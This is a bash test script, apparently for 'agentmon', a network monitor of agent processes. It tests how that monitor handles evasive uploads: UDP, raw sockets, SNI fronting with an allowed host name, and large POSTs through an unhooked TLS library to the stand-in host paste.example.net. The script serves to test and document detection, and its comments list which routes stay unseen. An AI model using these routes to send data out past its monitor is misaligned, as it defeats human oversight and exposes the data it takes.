#!/bin/bash
# Evasion on the network (cases 7, 8, 10 and the extra cases E3, E4 of
# tests/evasion/README.md).  Destinations that are not loopback are an
# address on lo in a private network namespace (198.51.100.7).
#  8  UDP sendto: send events with proto, daddr, dport, bytes; no alert for
#     loopback or small amounts; unexpected_upload once one socket sent more
#     than upload_threshold to an unlisted address.
#  E4 UDP on a connected socket (send without an address): the connect, and
#     one send event per datagram from the packets on the wire (the calls
#     carry no address); unexpected_upload past upload_threshold.
#  10 raw sockets: SOCK_RAW/IPPROTO_UDP is reported as udp sends with dport 0
#     (and counts toward unexpected_upload); SOCK_RAW/IPPROTO_ICMP,
#     SOCK_RAW/IPPROTO_RAW (a whole IPv4+UDP packet by hand) and ICMP ping
#     sockets are not reported at all (limit).
#  E3 SNI naming an allowed host: an upload through unhooked TLS to an
#     unlisted address is judged by the SNI name and raises nothing; later
#     connections to that address carry the name too (limit).
#  7  a POST through NSS (libcurl-nss, no uprobe): no http event; a small POST
#     raises nothing (limit); above unseen_tls_threshold it raises
#     unseen_tls (TLS agentmon cannot read) with the host from SNI.
. "$(dirname "$0")/lib.sh"

evade=$(ev_build evade "$EV_HELPERS/evade.c" -lpthread) || fail "cannot build helpers/evade.c"
FAR=198.51.100.7
netns_up "$FAR" || skip "cannot make a network namespace (unshare -n, nsenter, ip): $(cat "$T/netns.err" 2>/dev/null)"
# ICMP ping sockets for every group, in the namespace only
in_netns sh -c 'echo "0 2147483647" >/proc/sys/net/ipv4/ping_group_range' ||
	fail "cannot set ping_group_range in the namespace"
bg "$PY" "$EV_HELPERS/sink.py" 127.0.0.1 "$T/sink.lo" >/dev/null 2>&1
# nsenter itself (not a shell function) so that $! is the server the cleanup kills
bg nsenter -t "$NETNS_PID" -n "$PY" "$EV_HELPERS/sink.py" "$FAR" "$T/sink.far" >/dev/null 2>&1
wait_file "$T/sink.lo"
wait_file "$T/sink.far"
read -r _ lo_udp <"$T/sink.lo"
read -r far_tcp far_udp <"$T/sink.far"
cat >"$T/policy.yaml" <<'Y'
alerts:
  upload_threshold: 16k
Y
start_collector --config "$T/policy.yaml"

# sendto.py ADDR PORT N:SIZE...: N datagrams of SIZE bytes, all from one socket
cat >"$T/sendto.py" <<'PYEOF'
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for group in sys.argv[3:]:
    n, size = map(int, group.split(":"))
    for _ in range(n):
        s.sendto(b"u" * size, (sys.argv[1], int(sys.argv[2])))
PYEOF

# ---- 8. UDP sendto ----
launch udp-lo "$PY" "$T/sendto.py" 127.0.0.1 "$lo_udp" 3:100 40:1000 ||
	fail "UDP to loopback failed"
agent_in_netns udp-few "$PY" "$T/sendto.py" "$FAR" "$far_udp" 10:1000 ||
	fail "UDP to $FAR failed"
agent_in_netns udp-many "$PY" "$T/sendto.py" "$FAR" "$far_udp" 30:1000 ||
	fail "UDP to $FAR failed"
wait_event 5 type=alert rule=unexpected_upload agent=udp-many proto=udp daddr="$FAR" dport="$far_udp"
wait_count 5 43 type=send agent=udp-lo
expect 3 type=send agent=udp-lo proto=udp daddr=127.0.0.1 dport="$lo_udp" bytes=100
expect 40 type=send agent=udp-lo proto=udp daddr=127.0.0.1 dport="$lo_udp" bytes=1000
wait_count 5 10 type=send agent=udp-few
expect 10 type=send agent=udp-few proto=udp daddr="$FAR" dport="$far_udp" bytes=1000
sentinel # alerts are raised as the sends are judged: none comes later
expect 1 type=alert agent=udp-many
expect_none type=alert agent=udp-lo
expect_none type=alert agent=udp-few

# ---- E4. UDP on a connected socket ----
agent_in_netns udp-conn "$evade" udpconn "$FAR" "$far_udp" 30 1000 >"$T/udpconn.out" ||
	fail "connected UDP failed"
[ "$(cat "$T/udpconn.out")" = 30000 ] || fail "connected UDP sent $(cat "$T/udpconn.out") bytes, want 30000"
wait_event 5 type=exit agent=udp-conn
sentinel
expect 1 type=connect agent=udp-conn proto=udp daddr="$FAR" dport="$far_udp" ret=0
expect 30 type=send agent=udp-conn proto=udp daddr="$FAR" dport="$far_udp" bytes=1000
expect 1 type=alert agent=udp-conn rule=unexpected_upload proto=udp daddr="$FAR"

# ---- 10. raw sockets ----
agent_in_netns raw-udp "$evade" raw "$FAR" udp "$far_udp" 200 >/dev/null || fail "raw UDP failed"
agent_in_netns raw-icmp "$evade" raw "$FAR" icmp 0 200 >/dev/null || fail "raw ICMP failed"
agent_in_netns raw-ip "$evade" raw "$FAR" ip "$far_udp" 200 >/dev/null || fail "raw IP (IPPROTO_RAW) failed"
agent_in_netns ping-sock "$evade" ping "$FAR" 200 >/dev/null || fail "ICMP ping socket failed"
wait_event 5 type=alert rule=unexpected_upload agent=raw-udp proto=udp daddr="$FAR" dport=0
wait_count 5 200 type=send agent=raw-udp
# the kernel's sockaddr has no port for a raw socket: dport 0, not the UDP
# header's; bytes are the whole datagram the process wrote (8 + 100)
expect 200 type=send agent=raw-udp proto=udp daddr="$FAR" dport=0 bytes=108
for a in raw-icmp raw-ip ping-sock; do wait_event 5 type=exit agent="$a" exit_code=0; done
sentinel
for a in raw-icmp raw-ip ping-sock; do
	expect 0 type=send agent="$a"
	expect 0 type=connect agent="$a"
	expect 0 type=alert agent="$a"
done

# ---- E3. SNI naming an allowed host, through TLS agentmon cannot read ----
agent_in_netns tls-control "$PY" "$EV_HELPERS/raw_tls.py" "$FAR" "$far_tcp" - 100000 ||
	fail "raw TLS (no SNI) failed"
wait_event 5 type=alert rule=unexpected_upload agent=tls-control daddr="$FAR" dport="$far_tcp"
expect 0 type=alert agent=tls-control host?
agent_in_netns tls-front "$PY" "$EV_HELPERS/raw_tls.py" "$FAR" "$far_tcp" api.anthropic.com 100000 ||
	fail "raw TLS (SNI api.anthropic.com) failed"
agent_in_netns tls-front2 "$PY" "$EV_HELPERS/raw_tls.py" "$FAR" "$far_tcp" - 100000 ||
	fail "raw TLS after the fronting failed"
sentinel
# the second agent's connection never said a name: it got it from the first's SNI
expect 1 type=connect agent=tls-front2 daddr="$FAR" dport="$far_tcp" host=api.anthropic.com
expect 0 type=alert agent=tls-front
expect 0 type=alert agent=tls-front2

# ---- 7. a POST through NSS (libcurl-nss), a TLS library with no uprobe ----
nss="NSS part skipped (no libcurl-nss.so.4)"
nss_post=$(ev_build nss_post "$EV_HELPERS/nss_post.c" -ldl) || fail "cannot build helpers/nss_post.c"
"$nss_post" x 0 x:0:127.0.0.1 >/dev/null 2>&1
if [ $? -eq 3 ]; then
	skip_part "no libcurl-nss.so.4 (package libcurl3-nss): case 7, a POST through NSS, is not tested"
else
	command -v openssl >/dev/null || skip "needs openssl"
	tls_server paste.example.net
	tport=$TPORT
	resolve=paste.example.net:$tport:127.0.0.1
	launch nss-small "$nss_post" "https://paste.example.net:$tport/small" 1000 "$resolve" ||
		fail "POST through NSS failed"
	launch nss-big "$nss_post" "https://paste.example.net:$tport/big" 100000 "$resolve" ||
		fail "big POST through NSS failed"
	grep -q '"method": "POST", "path": "/small".*"bytes": 1000' "$T/tls.log" ||
		fail "the server did not get the small NSS POST: $(cat "$T/tls.log")"
	grep -q '"path": "/big".*"bytes": 100000' "$T/tls.log" || fail "the server did not get the big NSS POST"
	wait_event 5 type=alert rule=unseen_tls agent=nss-big host=paste.example.net dport="$tport"
	sentinel
	expect_min 1 type=connect agent=nss-small daddr=127.0.0.1 dport="$tport"
	expect 0 type=alert agent=nss-small
	expect 1 type=alert agent=nss-big
	grep -q "speaks TLS through a library agentmon does not recognise" "$ERR" ||
		fail "no warning about NSS, a TLS library with no uprobe"
	nss="NSS POST: no http event, 1000 bytes no alert (limit), 100000 bytes unseen_tls by SNI, warned"
fi

stop_collector
expect 0 type=http agent~'^nss-' # (an http event may wait for its response until the stop)
pass "UDP sendto: send events with bytes, alert only above upload_threshold off loopback; connected UDP: sends from the wire, unexpected_upload; raw UDP: sends with dport 0; raw ICMP/IP, ping: nothing; SNI of an allowed host hides an upload and names the address; $nss"
